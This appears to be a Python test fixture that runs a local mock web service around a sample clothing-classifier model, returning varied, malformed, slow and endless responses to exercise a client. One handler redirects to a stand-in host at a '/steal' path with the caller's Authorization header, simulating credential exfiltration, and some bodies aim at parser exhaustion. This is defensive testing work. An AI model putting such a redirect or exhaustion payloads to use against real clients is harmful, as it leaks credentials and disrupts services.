"""A web service on this computer, around the built-in sample, that can also be slow, faulty and hostile."""

import base64
import email.parser
import email.policy
import http.server
import io
import json
import random
import threading
from collections.abc import Callable

import numpy as np
import onnxruntime
from PIL import Image

from engine.words import resource

KEY = "sk-very-secret-0123456789/+abc"


def _session() -> onnxruntime.InferenceSession:
    options = onnxruntime.SessionOptions()
    options.intra_op_num_threads = options.inter_op_num_threads = 1
    return onnxruntime.InferenceSession(
        str(resource("samples/clothes-sorter.onnx")), options, providers=["CPUExecutionProvider"]
    )


SESSION = _session()
NAMES = [name for name in resource("samples/labels.txt").read_text(encoding="utf-8").splitlines() if name]


def logits_of(picture: bytes) -> np.ndarray:
    pixels = np.asarray(Image.open(io.BytesIO(picture)).convert("L"), np.float32)[None, None] / 255
    return SESSION.run(None, {SESSION.get_inputs()[0].name: pixels})[0][0]


def shares_of(picture: bytes) -> list[float]:
    powers = np.exp(logits_of(picture).astype(np.float64))
    return [float(value) for value in powers / powers.sum()]


def _pairs(picture: bytes) -> list[dict[str, object]]:
    return [
        {"tagId": str(n), "tagName": name, "probability": share}
        for n, (name, share) in enumerate(zip(NAMES, shares_of(picture)))
    ]


SHAPES: dict[str, Callable[[bytes], object]] = {
    "scores": lambda picture: {"result": {"scores": shares_of(picture)}},
    "batch": lambda picture: {"predictions": [shares_of(picture)]},
    "logits": lambda picture: {"logits": [float(value) for value in logits_of(picture)]},
    "percent": lambda picture: [100 * share for share in shares_of(picture)],
    "named": lambda picture: {"classes": dict(zip(reversed(NAMES), reversed(shares_of(picture))))},
    "pairs": lambda picture: {"id": "x", "predictions": sorted(_pairs(picture), key=lambda pair: -pair["probability"])},
    "top3": lambda picture: sorted(_pairs(picture), key=lambda pair: -pair["probability"])[:3],
    "label": lambda picture: {"answer": {"class": NAMES[int(logits_of(picture).argmax())]}},
}
BODIES: dict[str, bytes] = {
    "html": b"<!doctype html><title>Welcome</title>",
    "broken": b'{"result": {"sco',
    "empty": b"",
    "deep": b"[" * 100_000,
    "deeper": b"[" * 300 + b"]" * 300,
    "twice": b'{"result": 1, "result": 2}',
    "texts": b'{"result": {"scores": ["a", "b"]}}',
    "nan": b'{"result": {"scores": [NaN, 1]}}',
    "huge": b'{"result": {"scores": [1e400, 1]}}',
    "digits": b'{"result": {"scores": [' + b"9" * 6000 + b", 1]}}",
    "negative": b'{"result": {"scores": [-1, 2, 0, 0, 0, 0, 0, 0, 0, 0]}}',
    "fewer": b'{"result": {"scores": [0.5, 0.5]}}',
    "elsewhere": b'{"outcome": {"scores": [0.5, 0.5]}, "model": "m"}',
    "stranger": b'{"answer": {"class": "Submarine"}}',
}


class Service(http.server.ThreadingHTTPServer):
    """Answers by the first part of the path; remembers what it heard."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.heard: list[tuple[str, dict[str, str], bytes]] = []
        self.faults: list[tuple[int, dict[str, str]]] = []
        self.released = threading.Event()
        self.connections = 0
        threading.Thread(target=self.serve_forever, args=(0.02,), daemon=True).start()

    def address(self, path: str = "scores") -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/{path}"

    def process_request(self, request, client_address) -> None:
        self.connections += 1
        super().process_request(request, client_address)

    def handle_error(self, request, client_address) -> None:
        """Clients that hang up are part of the tests."""

    def close(self) -> None:
        self.released.set()
        self.shutdown()
        self.server_close()


class _Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    disable_nagle_algorithm = True
    server: Service

    def log_message(self, *_: object) -> None:
        pass

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.server.heard.append((self.path, dict(self.headers), body))
        kind = self.path.split("?")[0].strip("/").split("/")[0]
        if self.server.faults:
            status, headers = self.server.faults.pop(0)
            self.reply(b'{"error": "later"}', status, headers)
        elif kind in SHAPES:
            self.reply(json.dumps(SHAPES[kind](self._picture(body))).encode())
        elif kind == "texts":
            happy = float(len(json.loads(body)["inputs"]) % 7) / 7
            self.reply(json.dumps([[{"label": "good", "score": happy}, {"label": "bad", "score": 1 - happy}]]).encode())
        elif kind in BODIES:
            self.reply(BODIES[kind])
        elif kind.isdigit():
            self.reply(f"not {self.headers.get('Authorization')} {self.path}".encode(), int(kind))
        else:
            getattr(self, f"do_{kind}")(body) if kind == "wobbly" else getattr(self, f"do_{kind}")()

    def _picture(self, body: bytes) -> bytes:
        kind = self.headers["Content-Type"]
        if kind == "application/octet-stream":
            return body
        if kind == "application/json":
            return base64.b64decode(json.loads(body)["image"].rpartition(",")[2])
        whole = f"Content-Type: {kind}\r\n\r\n".encode() + body
        form = email.parser.BytesParser(policy=email.policy.HTTP).parsebytes(whole)
        part = next(part for part in form.iter_parts() if part.get_filename())
        return part.get_payload(decode=True)

    def reply(self, body: bytes, status: int = 200, headers: dict[str, str] | None = None) -> None:
        self.send_response(status)
        for name, value in {"Content-Type": "application/json", **(headers or {})}.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_redirect(self) -> None:
        self.reply(b"", 302, {"Location": f"http://192.0.2.1/steal?k={self.headers.get('Authorization')}"})

    def do_silent(self) -> None:
        self.server.released.wait(30)

    def do_drip(self) -> None:
        """Send one byte of a header line at a time."""
        while not self.server.released.wait(0.05):
            self.wfile.write(b"H")

    def do_endless(self) -> None:
        self.send_response(200)
        self.end_headers()
        while not self.server.released.is_set():
            self.wfile.write(b" " * 65536)

    def do_cut(self) -> None:
        self.send_response(200)
        self.send_header("Content-Length", "100")
        self.end_headers()
        self.wfile.write(b"{")
        self.close_connection = True

    def do_noise(self) -> None:
        self.wfile.write(bytes(range(256)) * 10)
        self.close_connection = True

    def do_wobbly(self, body: bytes) -> None:
        """Another answer each time, though always the same class."""
        scores = shares_of(self._picture(body))
        scores[int(np.argmax(scores))] += 0.3 * random.random()
        self.reply(json.dumps({"result": {"scores": scores}}).encode())
